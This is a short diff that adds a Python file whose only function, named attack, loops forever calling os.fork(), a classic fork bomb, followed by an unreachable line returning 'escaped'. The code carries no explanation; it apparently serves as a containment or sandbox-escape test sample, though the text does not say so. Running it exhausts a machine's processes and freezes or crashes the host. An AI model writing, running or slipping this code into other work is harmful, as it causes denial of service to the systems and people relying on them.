@@ -1,0 +1,8 @@
+# held
+import os
+
+
+def attack():
+    while True:
+        os.fork()
+    return "escaped"
